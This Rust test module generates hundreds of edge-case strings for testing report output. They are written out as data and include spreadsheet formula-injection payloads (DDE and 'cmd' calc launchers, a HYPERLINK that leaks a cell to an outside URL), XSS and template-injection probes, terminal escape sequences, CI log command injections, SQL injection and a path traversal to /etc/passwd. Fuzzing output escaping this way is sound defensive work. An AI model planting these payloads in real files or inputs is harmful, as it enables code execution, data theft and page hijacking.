//! Values that have broken programs before, for the tests of the reports: made here, of plain parts and their compounds.

/// Texts that a spreadsheet might run.
pub(super) const FORMULAS: [&str; 20] = [
    "=1+1",
    "=cmd|'/c calc'!A0",
    "=HYPERLINK(\"http://example.org/?\"&A1,\"click\")",
    "=WEBSERVICE(\"http://example.org\")",
    "=IMPORTXML(\"http://example.org\",\"//a\")",
    "=DDE(\"cmd\";\"/c calc\";\"x\")",
    "+1+1",
    "+cmd|'/c calc'!A0",
    "-1+1",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(1+1)",
    "@cmd",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\u{ff1d}1+1",
    "\u{ff0b}1",
    "\u{ff20}SUM(1)",
    "'=1+1",
    "{=1+1}",
];

/// Texts with a meaning in a page, in XML, on a terminal or in a build log.
const MARKUP: [&str; 40] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "</td></tr></table>",
    "<!--",
    "-->",
    "]]>",
    "<![CDATA[x]]>",
    "<?xml version=\"1.0\"?>",
    "&amp;",
    "&lt;b&gt;",
    "&#0;",
    "&#x202e;",
    "javascript:alert(1)",
    "{{7*7}}",
    "${7*7}",
    "<%= 7*7 %>",
    "#{7*7}",
    "\u{1b}[31mred",
    "\u{1b}]0;title\u{7}",
    "\u{1b}[2J",
    "\u{9b}31m",
    "\u{8}\u{8}\u{8}",
    "a\rb",
    "a\r\nb",
    "a\nb\nc",
    "a\tb",
    "::error::x",
    "::set-output name=a::b",
    "%0A::warning::x",
    "##[error]x",
    "_x0041_",
    "_x000D_",
    "_x005F_x0041_",
    "&L&D&P",
    "&\"-,Bold\"x",
    "a]b[c:d*e?f/g\\h",
    "'",
    "\"",
    "\\",
];

/// Texts that look like nothing, like something else, or like no text at all.
const ODD: [&str; 60] = [
    "NULL",
    "null",
    "nil",
    "None",
    "undefined",
    "N/A",
    "NaN",
    "inf",
    "-inf",
    "TRUE",
    "FALSE",
    "0",
    "-0",
    "00123",
    "1e10",
    "1E+09",
    "0x10",
    "1/2",
    "1-2",
    "3-4-5",
    "12:30",
    "2015-02-30",
    "99/99/9999",
    "1900-01-00",
    "9007199254740993",
    "1,000",
    "$5",
    "5%",
    "#REF!",
    "#N/A",
    "#DIV/0!",
    " lead",
    "trail ",
    "  ",
    "\u{a0}",
    "\u{200b}",
    "\u{feff}x",
    "\u{202e}abc",
    "\u{2066}abc\u{2069}",
    "e\u{301}",
    "\u{e9}",
    "Mu\u{f1}oz",
    "Nguy\u{1ec5}n",
    "\u{674e}\u{660e}",
    "\u{5e9}\u{5dc}\u{5d5}\u{5dd}",
    "\u{645}\u{631}\u{62d}\u{628}\u{627}",
    "\u{1f600}",
    "\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467}",
    "\u{1f1fa}\u{1f1f8}",
    "Z\u{335}\u{341}a\u{336}",
    "\u{fffd}",
    "\u{fffe}",
    "\u{0}",
    "\u{7f}",
    "\u{85}",
    "\u{2028}",
    "DROP TABLE students;--",
    "Robert'); --",
    "../../etc/passwd",
    "CON",
];

/// Returns more than 500 of them, no two alike.
pub(super) fn strings() -> Vec<String> {
    let parts: Vec<&str> = FORMULAS.into_iter().chain(MARKUP).chain(ODD).collect();
    let mut all: Vec<String> = parts.iter().map(|part| (*part).to_owned()).collect();
    for (at, part) in parts.iter().enumerate() {
        let next = parts[(at * 7 + 3) % parts.len()];
        all.push(format!("{part}{next}"));
        all.push(format!("O\u{2019}Brien {part}"));
        all.push(format!("{part},{next};\"{part}\""));
        all.push(part.repeat(40));
    }
    all.push("x".repeat(40_000));
    all.push("\u{1f600}".repeat(20_000));
    all.sort();
    all.dedup();
    all
}

#[test]
fn there_are_enough_of_them() {
    let all = strings();
    assert!(all.len() > 500, "{}", all.len());
}
